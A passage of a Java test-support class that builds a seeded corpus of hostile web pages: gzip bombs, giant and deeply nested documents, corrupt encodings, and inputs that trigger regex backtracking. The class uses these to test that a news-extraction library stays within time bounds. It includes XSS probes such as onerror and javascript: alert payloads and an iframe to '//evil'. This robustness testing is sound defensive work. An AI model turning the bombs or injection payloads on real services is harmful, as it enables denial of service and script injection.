package dev.newsdrop.testing;

import dev.newsdrop.extract.PageInput;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URISyntaxException;
import java.net.URL;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.function.Supplier;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;

/**
 * A corpus of hostile pages: generated from a fixed seed (the same pages on every run) plus the
 * hand-written files of {@code src/test/resources/hostile/}. Pages are made lazily, when a test asks
 * for one, so the few giants (50 MB, gzip bombs) never sit in memory together.
 */
public final class HostilePages {

    /** CPU time any ordinary page may take: far above the few milliseconds it needs, low enough to catch a hang. */
    public static final Duration NORMAL_BOUND = Duration.ofSeconds(2);
    /** CPU time a giant (tens of megabytes, a bomb, 100,000-deep nesting) may take. */
    public static final Duration GIANT_BOUND = Duration.ofSeconds(10);
    /**
     * Time any page may take on the wall clock: a guard against a hang only, generous for a busy
     * shared machine (a giant's 10 s of CPU stretched by a load of a dozen). The page's bound is the
     * real one, in CPU time, which a busy machine does not stretch.
     */
    public static final Duration HANG_BOUND = Duration.ofSeconds(120);
    /**
     * Time a page of 100,000 to 1,000,000 removable siblings may take, on the wall clock: a guard
     * against a hang only, generous for a busy shared machine. {@link #SIBLINGS_CPU_BOUND} is the
     * real bound.
     */
    public static final Duration SIBLINGS_BOUND = Duration.ofSeconds(30);
    /**
     * CPU time such a page may take: well under a second when the stages take siblings out in
     * bulk; removed one by one, 100,000 navs, scripts, styles, asides, footers or forms took 7 to
     * 14 s of CPU each, and 200,000 about four times that.
     */
    public static final Duration SIBLINGS_CPU_BOUND = Duration.ofSeconds(5);

    private static final long SEED = 20261129L;
    private static final String URL = "https://hostile.example/2024/03/27/story/";
    private static final int MB = 1 << 20;

    /** A prose paragraph, long enough that a handful of them make an article. */
    private static final String PARAGRAPH = "<p>The council approved the harbour budget on Tuesday after a long debate "
            + "about dredging, ferries and the fish market, and the mayor said the vote showed the city could still "
            + "agree on big things.</p>";

    /**
     * One page of the corpus.
     *
     * @param name  what the page is, unique in the corpus
     * @param make  builds the page when called
     * @param bound CPU time its record may take
     */
    public record HostilePage(String name, Supplier<PageInput> make, Duration bound) {
        @Override
        public String toString() {
            return name;
        }
    }

    private HostilePages() {
    }

    /** Every page: generated kinds first, then the hand-written files. */
    public static Stream<HostilePage> all() {
        List<HostilePage> pages = new ArrayList<>();
        empties(pages);
        binaryNoise(pages);
        nulBytes(pages);
        truncated(pages);
        gzip(pages);
        giants(pages);
        megabyteFields(pages);
        encodings(pages);
        dangerousTags(pages);
        eventHandlers(pages);
        dangerousUrls(pages);
        notHtml(pages);
        handWritten(pages);
        return pages.stream();
    }

    // ---- building blocks

    /** An ordinary article with {@code head} added to its head and {@code body} inside the article. */
    public static String article(String head, String body) {
        return "<!doctype html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>Harbour budget passes | City Herald</title>"
                + "<link rel=\"canonical\" href=\"" + URL + "\">"
                + "<meta property=\"article:published_time\" content=\"2024-03-27T09:00:00Z\">" + head
                + "</head><body><article><h1>Harbour budget passes</h1>" + PARAGRAPH.repeat(3) + body
                + PARAGRAPH.repeat(3) + "</article></body></html>";
    }

    private static PageInput html(String page) {
        return new PageInput(page.getBytes(StandardCharsets.UTF_8), URL, "text/html", "page.html");
    }

    private static PageInput bytes(byte[] page, String contentType) {
        return new PageInput(page, URL, contentType, "page.html");
    }

    private static void add(List<HostilePage> pages, String name, Supplier<PageInput> make) {
        pages.add(new HostilePage(name, make, NORMAL_BOUND));
    }

    private static void giant(List<HostilePage> pages, String name, Supplier<PageInput> make) {
        pages.add(new HostilePage(name, make, GIANT_BOUND));
    }

    // ---- kinds

    private static void empties(List<HostilePage> pages) {
        add(pages, "empty: no bytes", () -> bytes(new byte[0], "text/html"));
        add(pages, "empty: null bytes and no url", () -> new PageInput(null, null, null, null));
        String[] blanks = {" ", "\n", "\r\n", "\t\t", " \n\t\r\f ", "\u00a0\u00a0", "\u2003\u2029", "\ufeff",
                "\ufeff   \n", "\u200b\u200b", "\u3000"};
        for (int i = 0; i < blanks.length; i++) {
            String blank = blanks[i];
            add(pages, "whitespace only #" + i, () -> html(blank));
            add(pages, "whitespace only x10000 #" + i, () -> html(blank.repeat(10_000)));
        }
        add(pages, "whitespace only: UTF-16LE with BOM", () -> bytes(withBom(new byte[] {(byte) 0xff, (byte) 0xfe},
                "   \n ".getBytes(StandardCharsets.UTF_16LE)), "text/html"));
        add(pages, "empty html skeleton", () -> html("<html><head></head><body></body></html>"));
        add(pages, "only a doctype", () -> html("<!doctype html>"));
        add(pages, "only a comment", () -> html("<!-- nothing here -->"));
        add(pages, "only a title", () -> html("<title>t</title>"));
    }

    private static void binaryNoise(List<HostilePage> pages) {
        for (int i = 0; i < 100; i++) {
            int n = i;
            add(pages, "binary noise #" + n, () -> {
                Random random = new Random(SEED + n);
                byte[] noise = new byte[1 + random.nextInt(8192)];
                random.nextBytes(noise);
                return bytes(noise, n % 2 == 0 ? "text/html" : "application/octet-stream");
            });
        }
        for (int i = 0; i < 50; i++) {
            int n = i;
            add(pages, "binary noise behind an html prefix #" + n, () -> {
                Random random = new Random(SEED * 3 + n);
                byte[] noise = new byte[200 + random.nextInt(8192)];
                random.nextBytes(noise);
                byte[] prefix = "<html><head><title>x</title></head><body><p>".getBytes(StandardCharsets.US_ASCII);
                System.arraycopy(prefix, 0, noise, 0, prefix.length);
                return bytes(noise, "text/html; charset=utf-8");
            });
        }
        for (int i = 0; i < 30; i++) {
            int n = i;
            add(pages, "high bytes only, no controls #" + n, () -> {
                Random random = new Random(SEED * 5 + n);
                byte[] noise = new byte[1 + random.nextInt(6000)];
                for (int j = 0; j < noise.length; j++) {
                    noise[j] = (byte) (0x80 + random.nextInt(0x80));
                }
                return bytes(noise, "text/html");
            });
        }
        byte[][] magics = {
                {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'}, {'%', 'P', 'D', 'F', '-', '1', '.', '7', '\n'},
                {(byte) 0xff, (byte) 0xd8, (byte) 0xff, (byte) 0xe0}, {'P', 'K', 3, 4}, {'G', 'I', 'F', '8', '9', 'a'},
                {0x7f, 'E', 'L', 'F'}, {(byte) 0xca, (byte) 0xfe, (byte) 0xba, (byte) 0xbe}};
        for (int i = 0; i < magics.length; i++) {
            byte[] magic = magics[i];
            add(pages, "file signature then html #" + i, () -> bytes(concat(magic, article("", "").getBytes(StandardCharsets.UTF_8)),
                    "text/html"));
        }
    }

    private static void nulBytes(List<HostilePage> pages) {
        add(pages, "NUL bytes only", () -> bytes(new byte[4096], "text/html"));
        add(pages, "one NUL byte", () -> bytes(new byte[1], "text/html"));
        add(pages, "NUL after a valid article", () -> bytes(concat(article("", "").getBytes(StandardCharsets.UTF_8),
                new byte[64]), "text/html"));
        add(pages, "NUL deep inside a valid article", () -> {
            byte[] page = article("", "").getBytes(StandardCharsets.UTF_8);
            page[page.length / 2] = 0;
            return bytes(page, "text/html");
        });
        add(pages, "NUL between every character", () -> {
            byte[] page = article("", "").getBytes(StandardCharsets.US_ASCII);
            byte[] spread = new byte[page.length * 2];
            for (int i = 0; i < page.length; i++) {
                spread[2 * i] = page[i];
            }
            return bytes(spread, "text/html; charset=utf-8");
        });
        add(pages, "NUL as HTML entities", () -> html(article("", "<p>&#0;&#x0;&#0000;\u0000</p>")));
        add(pages, "NUL inside a tag name", () -> html(article("", "<scr\u0000ipt>alert(1)</scr\u0000ipt>")));
        add(pages, "NUL inside javascript:", () -> html(article("", "<a href=\"java\u0000script:alert(1)\">link</a>")));
    }

    private static void truncated(List<HostilePage> pages) {
        for (int i = 0; i < 150; i++) {
            int n = i;
            add(pages, "article cut at a random byte #" + n, () -> {
                byte[] page = arabicArticle().getBytes(StandardCharsets.UTF_8);
                int cut = 1 + new Random(SEED * 7 + n).nextInt(page.length - 1);
                return bytes(Arrays.copyOf(page, cut), "text/html; charset=utf-8");
            });
        }
        for (int i = 0; i < 50; i++) {
            int n = i;
            add(pages, "hostile article cut at a random byte #" + n, () -> {
                byte[] page = article("<script>var a = '</script>';</script>",
                        "<img src=x onerror=alert(1)><a href=\"javascript:alert(1)\">x</a><iframe src=\"//evil\">")
                        .getBytes(StandardCharsets.UTF_8);
                int cut = 1 + new Random(SEED * 11 + n).nextInt(page.length - 1);
                return bytes(Arrays.copyOf(page, cut), "text/html");
            });
        }
        String[] cutsInsideAToken = {"<html><body><p>Text", "<html><body><p class=\"", "<html><body><!--", "<html><body><script>",
                "<html><body><a href='javascript:", "<html><body><p>" + "a".repeat(2000) + "&#x6a", "<!doctype", "<",
                "<html><body><![CDATA[", "<html><body><p>\u00e9".substring(0, 15), "<html><body><style>p{"};
        for (int i = 0; i < cutsInsideAToken.length; i++) {
            String page = cutsInsideAToken[i];
            add(pages, "cut inside a token #" + i, () -> html(page));
        }
        add(pages, "cut inside a UTF-8 sequence", () -> {
            byte[] page = ("<html><body><p>" + "بغداد ".repeat(50)).getBytes(StandardCharsets.UTF_8);
            return bytes(Arrays.copyOf(page, page.length - 1), "text/html; charset=utf-8");
        });
    }

    private static void gzip(List<HostilePage> pages) {
        giant(pages, "gzip bomb: 60 MB of zeros", () -> bytes(gzipRepeated(new byte[64 * 1024], 60 * MB), "text/html"));
        giant(pages, "gzip bomb: 60 MB of spaces", () -> bytes(gzipRepeated(" ".repeat(64 * 1024).getBytes(StandardCharsets.US_ASCII),
                60 * MB), "text/html"));
        giant(pages, "gzip bomb: 60 MB of <div>", () -> bytes(gzipRepeated("<div>".repeat(13_000).getBytes(StandardCharsets.US_ASCII),
                60 * MB), "text/html"));
        giant(pages, "gzip bomb: html head then 60 MB of paragraphs", () -> bytes(gzipRepeated(
                PARAGRAPH.repeat(300).getBytes(StandardCharsets.US_ASCII), 60 * MB), "text/html"));
        giant(pages, "gzip bomb inside gzip", () -> bytes(gzip(gzipRepeated(new byte[64 * 1024], 60 * MB)), "text/html"));
        giant(pages, "gzip bomb: named .gz without magic check", () -> new PageInput(gzipRepeated(new byte[64 * 1024], 60 * MB),
                URL, "text/html", "page.html.gz"));
        add(pages, "gzip: valid small article", () -> bytes(gzip(article("", "").getBytes(StandardCharsets.UTF_8)), "text/html"));
        add(pages, "gzip: empty stream", () -> bytes(gzip(new byte[0]), "text/html"));
        add(pages, "gzip: magic only", () -> bytes(new byte[] {0x1f, (byte) 0x8b}, "text/html"));
        add(pages, "gzip: header only", () -> bytes(Arrays.copyOf(gzip(article("", "").getBytes(StandardCharsets.UTF_8)), 10),
                "text/html"));
        add(pages, "gzip: .gz name but plain html", () -> new PageInput(article("", "").getBytes(StandardCharsets.UTF_8), URL,
                "text/html", "page.html.gz"));
        for (int i = 0; i < 30; i++) {
            int n = i;
            add(pages, "gzip: corrupt (bytes flipped) #" + n, () -> {
                byte[] z = gzip(arabicArticle().getBytes(StandardCharsets.UTF_8));
                Random random = new Random(SEED * 13 + n);
                for (int k = 0; k < 1 + n % 5; k++) {
                    int at = 2 + random.nextInt(z.length - 2);
                    z[at] ^= (byte) (1 + random.nextInt(255));
                }
                return bytes(z, "text/html");
            });
            add(pages, "gzip: truncated #" + n, () -> {
                byte[] z = gzip(arabicArticle().getBytes(StandardCharsets.UTF_8));
                int cut = 2 + new Random(SEED * 17 + n).nextInt(z.length - 2);
                return bytes(Arrays.copyOf(z, cut), "text/html");
            });
            add(pages, "gzip: magic then noise #" + n, () -> {
                byte[] z = new byte[20 + n * 50];
                new Random(SEED * 19 + n).nextBytes(z);
                z[0] = 0x1f;
                z[1] = (byte) 0x8b;
                return bytes(z, "text/html");
            });
        }
        add(pages, "gzip: article followed by garbage", () -> bytes(concat(gzip(article("", "").getBytes(StandardCharsets.UTF_8)),
                "trailing garbage".getBytes(StandardCharsets.US_ASCII)), "text/html"));
        add(pages, "gzip: two members", () -> bytes(concat(gzip("<html><body>".getBytes(StandardCharsets.US_ASCII)),
                gzip(article("", "").getBytes(StandardCharsets.UTF_8))), "text/html"));
    }

    private static void giants(List<HostilePage> pages) {
        giant(pages, "50 MB page", () -> {
            byte[] paragraph = PARAGRAPH.getBytes(StandardCharsets.US_ASCII);
            byte[] page = new byte[50 * MB];
            for (int at = 0; at < page.length; at += paragraph.length) {
                System.arraycopy(paragraph, 0, page, at, Math.min(paragraph.length, page.length - at));
            }
            return bytes(page, "text/html");
        });
        giant(pages, "gzip: 40 MB page under the expanded cap", () -> bytes(gzipRepeated(
                PARAGRAPH.repeat(500).getBytes(StandardCharsets.US_ASCII), 40 * MB), "text/html"));
        giant(pages, "19 MB page just under the raw cap", () -> html(article("", PARAGRAPH.repeat(19 * MB / PARAGRAPH.length()))));
        giant(pages, "100,000-deep divs", () -> html("<html><body>" + "<div>".repeat(100_000) + PARAGRAPH.repeat(6)
                + "</div>".repeat(100_000) + "</body></html>"));
        giant(pages, "100,000-deep unclosed divs", () -> html("<html><body>" + "<div>".repeat(100_000) + PARAGRAPH.repeat(6)));
        giant(pages, "100,000-deep inline tags", () -> html("<html><body><p>" + "<span><b><i>".repeat(33_334) + "deep"
                + "</i></b></span>".repeat(33_334) + "</p>" + PARAGRAPH.repeat(6) + "</body></html>"));
        giant(pages, "100,000-deep nested tables", () -> html("<html><body>" + "<table><tr><td>".repeat(33_334)
                + PARAGRAPH.repeat(6) + "</body></html>"));
        giant(pages, "100,000-deep blockquotes inside an article", () -> html(article("", "<blockquote>".repeat(100_000) + PARAGRAPH)));
        giant(pages, "100,000-deep links", () -> html(article("", "<a href=\"/x\">".repeat(100_000) + "x")));
        giant(pages, "100,000 nested lists", () -> html(article("", "<ul><li>".repeat(50_000) + "item")));
        giant(pages, "100,000 sibling paragraphs", () -> html(article("", PARAGRAPH.repeat(100_000 / 10))));
        giant(pages, "100,000 nested svg elements with onload",
                () -> html(article("", "<svg onload=alert(1)>" + "<g onload=alert(1)>".repeat(100_000))));
        giant(pages, "5 MB single line", () -> html("<html><body><p>" + "lorem ipsum dolor sit amet ".repeat(200_000)
                + "</p></body></html>"));
        giant(pages, "5 MB word without spaces", () -> html(article("", "<p>" + "a".repeat(5 * MB) + "</p>")));
        giant(pages, "5 MB inline script", () -> html(article("<script>var x = '" + "a".repeat(5 * MB) + "';</script>", "")));
        giant(pages, "5 MB inline script in the body", () -> html(article("", "<script>document.write('" + "<p>x</p>".repeat(600_000)
                + "')</script>")));
        giant(pages, "5 MB inline style", () -> html(article("<style>" + "p{color:red}".repeat(440_000) + "</style>", "")));
        giant(pages, "unclosed script swallows the page", () -> html(article("", "<script>var s = '" + "x".repeat(MB))));
        giant(pages, "5 MB html comment", () -> html(article("", "<!--" + "-".repeat(5 * MB) + "-->")));
        giant(pages, "unclosed comment swallows the page", () -> html(article("", "<!-- " + PARAGRAPH.repeat(10_000))));
        giant(pages, "1 MB of entities", () -> html(article("", "<p>" + "&amp;&#x41;&lt;&nbsp;".repeat(60_000) + "</p>")));
        giant(pages, "100,000 attributes on one element", () -> {
            StringBuilder sb = new StringBuilder("<p");
            for (int i = 0; i < 100_000; i++) {
                sb.append(" a").append(i).append("=\"v\"");
            }
            return html(article("", sb + ">many attributes</p>"));
        });
        giant(pages, "100,000 meta tags", () -> html(article("<meta name=\"keywords\" content=\"a,b\">".repeat(100_000), "")));
        giant(pages, "100,000 JSON-LD blocks", () -> html(article("<script type=\"application/ld+json\">{\"@type\":\"NewsArticle\"}</script>"
                .repeat(100_000), "")));
        giant(pages, "JSON-LD nested 100,000 deep", () -> html(article("<script type=\"application/ld+json\">" + "[".repeat(100_000)
                + "]".repeat(100_000) + "</script>", "")));
        giant(pages, "JSON-LD object nested 100,000 deep", () -> html(article("<script type=\"application/ld+json\">"
                + "{\"a\":".repeat(100_000) + "1" + "}".repeat(100_000) + "</script>", "")));
    }

    /** Siblings the noise stage removes wherever they are, repeated beside the article. */
    static final List<String> NOISE_SIBLINGS = List.of(
            "<script>x</script>", "<style>p{}</style>", "<noscript>x</noscript>", "<template>x</template>",
            "<nav>x</nav>", "<aside>x</aside>", "<header>x</header>", "<footer>x</footer>", "<form>x</form>",
            "<select><option>x</select>", "<iframe></iframe>", "<button>x</button>", "<input>", "<svg></svg>",
            "<div hidden>x</div>", "<div aria-hidden=true>x</div>", "<div style=\"display:none\">x</div>",
            "<div role=navigation>x</div>", "<div class=\"share\">x</div>", "<div class=\"related-posts\">x</div>",
            "<ul><li><a href=/a>Teaser headline</a> and a line</li><li><a href=/b>Teaser headline</a> and a line</li>"
                    + "<li><a href=/c>Teaser headline</a> and a line</li></ul>",
            "<div class=\"breadcrumb\"><a href=/a>Home</a><a href=/b>News</a><h1>Menu item</h1></div>");

    /** Siblings the pruning, trimming and rendering stages meet inside the article's container. */
    static final List<String> CONTAINER_SIBLINGS = List.of(
            "<p>Share this</p>", "<p>Advertisement</p>", "<p>By Jane Doe</p>", "<p><a href=\"/x\">x</a></p>",
            "<li><a href=\"/x\">x</a></li>", "<p></p>", "<div></div>", "<br>", "<!--x-->", "<option>x</option>",
            "<div class=\"comments\">x</div>");

    /** Each kind this many times beside the article, and a tenth of a million inside it. */
    private static final int SIBLINGS = 200_000;

    /**
     * Pages of an article beside or around 100,000 to 1,000,000 siblings of every kind a stage
     * removes: each page must keep its article.
     */
    public static Stream<HostilePage> repeatedSiblings() {
        List<HostilePage> pages = new ArrayList<>();
        for (String sibling : NOISE_SIBLINGS) {
            int times = sibling.length() > 60 ? SIBLINGS / 4 : SIBLINGS;
            pages.add(new HostilePage(abbreviate(sibling) + " x " + times + " beside the article",
                    () -> html("<html><head><title>Harbour budget passes</title></head><body>" + sibling.repeat(times)
                            + "<article><h1>Harbour budget passes</h1>" + PARAGRAPH.repeat(6) + "</article></body></html>"),
                    SIBLINGS_BOUND));
        }
        for (String sibling : CONTAINER_SIBLINGS) {
            pages.add(new HostilePage(abbreviate(sibling) + " x " + SIBLINGS / 2 + " inside the article",
                    () -> html(article("", "<div>" + sibling.repeat(SIBLINGS / 2) + "</div>")), SIBLINGS_BOUND));
        }
        pages.add(new HostilePage("<!--x--> x 1,000,000 beside the article", () -> html(article("", "")
                .replace("<article>", "<!--x-->".repeat(1_000_000) + "<article>")), SIBLINGS_BOUND));
        pages.add(new HostilePage("<select><option> x 200,000 gzipped", () -> bytes(gzip(("<html><body><select>"
                + "<option>".repeat(200_000) + "</select>" + PARAGRAPH.repeat(6) + "</body></html>")
                .getBytes(StandardCharsets.US_ASCII)), "text/html"), SIBLINGS_BOUND));
        return pages.stream();
    }

    /** The prose of {@link #PARAGRAPH}, as JSON-LD holds an article body: text without markup. */
    private static final String PROSE = PARAGRAPH.replace("<p>", "").replace("</p>", "");

    /**
     * Pages with a long run of characters where a pattern retried the run from each of its characters:
     * 80,000 spaces in a JSON-LD articleBody took over 10 s of CPU, in its split into lines and in the
     * trailing-agency pattern of the source credit. A stated site name with 40,000 bars inside took 23 s,
     * in the pattern that cut separators from its edges; a JSON-LD author or publisher with 40,000 spaces
     * inside 10 s and more, in the patterns that split a name at a bar; an og:title with 10,000 rating
     * stars inside 3.4 s, in the pattern that cut a score from its end. A JSON-LD Person of 20,000 words
     * joined by "&amp;" overflowed the stack in the pattern that reads an affiliation after a comma: the
     * record FAILED.
     */
    public static Stream<HostilePage> longRuns() {
        String spaces = " ".repeat(200_000);
        return Stream.of(
                new HostilePage("og:site_name with a run of 40,000 bars inside", () -> html(article(
                        "<meta property=\"og:site_name\" content=\"City" + "|".repeat(40_000) + " Herald\">", "")), SIBLINGS_BOUND),
                new HostilePage("og:title with a run of 40,000 rating stars inside", () -> html(article(
                        "<meta property=\"og:title\" content=\"Harbour budget " + "\u2605".repeat(40_000) + " passes\">", "")),
                        SIBLINGS_BOUND),
                new HostilePage("JSON-LD Person author with a run of 40,000 spaces inside", () -> html(article(
                        "<script type=\"application/ld+json\">{\"@type\":\"NewsArticle\",\"author\":{\"@type\":\"Person\",\"name\":\"Jane"
                                + " ".repeat(40_000) + "Doe\"}}</script>", "")), SIBLINGS_BOUND),
                new HostilePage("JSON-LD publisher with a run of 40,000 tabs inside", () -> html(article(
                        "<script type=\"application/ld+json\">{\"@type\":\"NewsArticle\",\"publisher\":{\"@type\":\"Organization\","
                                + "\"name\":\"City" + "\\t".repeat(40_000) + "Herald\"}}</script>", "")), SIBLINGS_BOUND),
                new HostilePage("JSON-LD Person author of 20,000 words joined by &", () -> html(article(
                        "<script type=\"application/ld+json\">{\"@type\":\"NewsArticle\",\"author\":{\"@type\":\"Person\",\"name\":\"Jane "
                                + "& ".repeat(20_000) + "Doe\"}}</script>", "")), SIBLINGS_BOUND),
                new HostilePage("JSON-LD articleBody with 200,000 spaces inside", () -> html("<html><head><title>Harbour budget passes</title>"
                        + "<script type=\"application/ld+json\">{\"@type\":\"NewsArticle\",\"articleBody\":\"" + PROSE.repeat(4)
                        + spaces + "\\n\\n" + PROSE.repeat(2) + " (" + spaces + "x\"}</script></head><body><p>Harbour budget passes</p>"
                        + "</body></html>"), SIBLINGS_BOUND),
                new HostilePage("JSON-LD articleBody with 200,000 tabs inside", () -> html("<html><head><title>Harbour budget passes</title>"
                        + "<script type=\"application/ld+json\">{\"@type\":\"NewsArticle\",\"articleBody\":\"" + PROSE.repeat(4)
                        + "\\t".repeat(200_000) + "x\"}</script></head><body><p>Harbour budget passes</p></body></html>"), SIBLINGS_BOUND),
                new HostilePage("last paragraph: a bracket and 200,000 no-break spaces", () -> html(article("", "<p>" + PROSE + " ("
                        + "&nbsp;".repeat(200_000) + "x</p>")), SIBLINGS_BOUND));
    }

    /**
     * Pages where a rule asked, for each of thousands of elements, a question that read thousands of
     * others: each took 5 to 45 s of CPU in the metadata stage, which no deadline interrupts, or
     * overflowed the stack and lost the article.
     * <ul>
     *   <li>a bold byline lead ("<b>Von</b> Anna Schmidt") is asked whether it opens its line: read
     *       from the line's first node, every bold word after 40,000 comments read all of them;</li>
     *   <li>each {@code article:author} profile was looked for among all the page's links: 3,000 of
     *       each took 30 s;</li>
     *   <li>a profile address's slug, matched by a pattern that repeats a group (by recursion in
     *       Java), overflowed the stack at a few thousand hyphenated letters: the record FAILED;</li>
     *   <li>every h1 of the page was asked whether it sits in the site's frame, a pop-up or a trail,
     *       each a walk up its ancestors: 64,000 h1s, each a level deeper, took 8 s;</li>
     *   <li>every figure's whole subtree was searched for the lead image's caption: 8,000 nested
     *       figures took 1.5 s, 64,000 of three pictures each over 10 s;</li>
     *   <li>under a label h1 ("Local Politics"), each of the first hundred lower headings was read
     *       whole for the headline a stated title confirms: a hundred nested h2s over 5 MB took 13 s of CPU;</li>
     *   <li>each Japanese closing signature ("店主　佐藤 美幸") gathered every paragraph of its article to ask whether
     *       another is a role and a name too: 150,000 such lines took 27 s of CPU.</li>
     * </ul>
     */
    public static Stream<HostilePage> quadraticWalks() {
        return Stream.of(
                new HostilePage("40,000 bold bylines after 40,000 comments in one line", () -> html(article("",
                        "<p>" + "<!--x-->".repeat(40_000) + "<b>Von Anna Schmidt</b>".repeat(40_000) + "</p>")),
                        SIBLINGS_BOUND),
                new HostilePage("3,000 article:author profiles and 3,000 links", () -> {
                    StringBuilder head = new StringBuilder();
                    StringBuilder links = new StringBuilder("<p>");
                    for (int i = 0; i < 3_000; i++) {
                        head.append("<meta property=\"article:author\" content=\"https://hostile.example/author/jane-doe-").append(i)
                                .append("\">");
                        links.append("<a href=\"/news/story-").append(i).append("\">story</a> ");
                    }
                    return html(article(head.toString(), links + "</p>"));
                }, SIBLINGS_BOUND),
                new HostilePage("article:author slug of 20,000 hyphenated letters", () -> html(article(
                        "<meta property=\"article:author\" content=\"https://hostile.example/author/" + "a-".repeat(20_000) + "b\">", "")),
                        SIBLINGS_BOUND),
                new HostilePage("JSON-LD author URL in a folder of 20,000 hyphenated letters", () -> html(article(
                        "<script type=\"application/ld+json\">{\"@type\":\"NewsArticle\",\"author\":\"https://hostile.example/by/"
                                + "a-".repeat(20_000) + "b/x\"}</script>", "")),
                        SIBLINGS_BOUND),
                new HostilePage("64,000 h1s, each a level deeper", () -> html("<html><head><title>Harbour budget passes</title></head><body>"
                        + "<div><h1>x</h1>".repeat(64_000) + PARAGRAPH.repeat(6) + "</body></html>"), SIBLINGS_BOUND),
                new HostilePage("64,000 nested figures and the lead image's og:image", () -> html(article(
                        "<meta property=\"og:image\" content=\"https://img.example/lead-photo.jpg\">",
                        "<figure><img src=o.jpg><img src=o.jpg><img src=o.jpg>".repeat(64_000) + "<figcaption>caption</figcaption>")),
                        SIBLINGS_BOUND),
                new HostilePage("100 nested h2s over 5 MB under a label h1", () -> html("<html><head><title>Harbour budget passes"
                        + " after a long night | Quay Times</title><meta property=\"og:title\" content=\"Harbour budget passes after a long"
                        + " night\"></head><body><article><h1>Local Politics</h1>" + "<div><h2>x ".repeat(100) + PARAGRAPH.repeat(25_000)
                        + "</article></body></html>"), SIBLINGS_BOUND),
                new HostilePage("150,000 Japanese signature lines of a post and a name", () -> html(article("",
                        "<p>店主　佐藤 美幸</p>".repeat(150_000))), SIBLINGS_BOUND));
    }

    private static void megabyteFields(List<HostilePage> pages) {
        String mega = "x".repeat(MB);
        String megaWords = "word ".repeat(MB / 5);
        giant(pages, "1 MB class", () -> html(article("", "<p class=\"" + mega + "\">text</p>")));
        giant(pages, "1 MB class of boilerplate words", () -> html(article("", "<div class=\"" + "comment share ".repeat(MB / 14)
                + "\">" + PARAGRAPH.repeat(6) + "</div>")));
        giant(pages, "1 MB style attribute", () -> html(article("", "<div style=\"" + "color:red;".repeat(MB / 10)
                + "display:none\">" + PARAGRAPH + "</div>")));
        giant(pages, "1 MB meta description", () -> html(article("<meta name=\"description\" content=\"" + megaWords + "\">", "")));
        giant(pages, "1 MB og:description", () -> html(article("<meta property=\"og:description\" content=\"" + megaWords + "\">", "")));
        giant(pages, "1 MB title", () -> html(article("", "").replace("<title>Harbour budget passes | City Herald</title>",
                "<title>" + megaWords + "</title>")));
        giant(pages, "1 MB og:title", () -> html(article("<meta property=\"og:title\" content=\"" + megaWords + "\">", "")));
        // a title keeps its whitespace as written: a run of spaces before a separator made each separator search quadratic (minutes)
        add(pages, "title with runs of 60,000 spaces around its separator", () -> html(article("", "").replace(
                "<title>Harbour budget passes | City Herald</title>", "<title>Harbour budget passes" + " ".repeat(60_000) + "- VIDEO"
                        + " ".repeat(60_000) + "| City Herald</title>")));
        add(pages, "og:title with runs of 60,000 spaces around its separator", () -> html(article("<meta property=\"og:title\" content=\""
                + "Harbour budget passes" + " ".repeat(60_000) + "|" + " ".repeat(60_000) + "City Herald\">", "")));
        giant(pages, "1 MB h1", () -> html("<html><body><article><h1>" + megaWords + "</h1>" + PARAGRAPH.repeat(6) + "</article></body></html>"));
        giant(pages, "1 MB author meta", () -> html(article("<meta name=\"author\" content=\"" + megaWords + "\">", "")));
        giant(pages, "100,000 authors", () -> html(article("<meta name=\"author\" content=\"" + "Jane Doe, ".repeat(100_000) + "\">", "")));
        giant(pages, "100,000 tags", () -> html(article("<meta name=\"news_keywords\" content=\""
                + String.join(",", java.util.stream.IntStream.range(0, 100_000).mapToObj(i -> "tag" + i).toList()) + "\">", "")));
        giant(pages, "100,000 article:tag metas", () -> {
            StringBuilder sb = new StringBuilder();
            for (int i = 0; i < 100_000; i++) {
                sb.append("<meta property=\"article:tag\" content=\"t").append(i).append("\">");
            }
            return html(article(sb.toString(), ""));
        });
        giant(pages, "1 MB section", () -> html(article("<meta property=\"article:section\" content=\"" + megaWords + "\">", "")));
        giant(pages, "1 MB site name", () -> html(article("<meta property=\"og:site_name\" content=\"" + megaWords + "\">", "")));
        giant(pages, "1 MB canonical url", () -> html(article("", "").replace("href=\"" + URL + "\"",
                "href=\"" + URL + mega + "\"")));
        giant(pages, "1 MB og:image url", () -> html(article("<meta property=\"og:image\" content=\"https://img.example/" + mega
                + ".jpg\">", "")));
        giant(pages, "1 MB lang attribute", () -> html(article("", "").replace("lang=\"en\"", "lang=\"" + mega + "\"")));
        giant(pages, "1 MB published date", () -> html(article("<meta name=\"date\" content=\"2024-03-27" + " ".repeat(MB) + "x\">", "")));
        giant(pages, "1 MB JSON-LD headline, authors and keywords", () -> html(article("<script type=\"application/ld+json\">"
                + "{\"@type\":\"NewsArticle\",\"headline\":\"" + megaWords + "\",\"description\":\"" + megaWords
                + "\",\"author\":[" + "{\"name\":\"Jane Doe\"},".repeat(50_000) + "{\"name\":\"" + megaWords + "\"}],"
                + "\"keywords\":\"" + "k,".repeat(MB / 2) + "\",\"articleBody\":\"" + megaWords + "\"}</script>", "")));
        giant(pages, "1 MB href", () -> html(article("", "<p><a href=\"https://x.example/" + mega + "\">link</a></p>")));
        giant(pages, "1 MB img src", () -> html(article("", "<figure><img src=\"https://x.example/" + mega
                + "\"><figcaption>caption</figcaption></figure>")));
        giant(pages, "1 MB figcaption of the lead image", () -> html(article("<meta property=\"og:image\" content=\"https://img.example/lead-photo.jpg\">",
                "<figure><img src=\"https://img.example/lead-photo.jpg\"><figcaption>" + megaWords + "</figcaption></figure>")));
        giant(pages, "1 MB data: image", () -> html(article("", "<img src=\"data:image/png;base64," + "A".repeat(MB) + "\">")));
        giant(pages, "1 MB attribute name", () -> html(article("", "<p " + mega + "=\"v\">text</p>")));
        giant(pages, "5 MB tag name", () -> html(article("", "<" + "x".repeat(5 * MB) + ">text")));
        giant(pages, "5 MB upper-case end tag name", () -> html(article("", "</" + "X".repeat(5 * MB) + ">")));
        giant(pages, "5 MB tag name of <a<a<a", () -> html(article("", "<" + "a<".repeat(5 * MB / 2) + ">")));
        giant(pages, "5 MB script end tag name", () -> html(article("", "<script></script" + "x".repeat(5 * MB) + ">")));
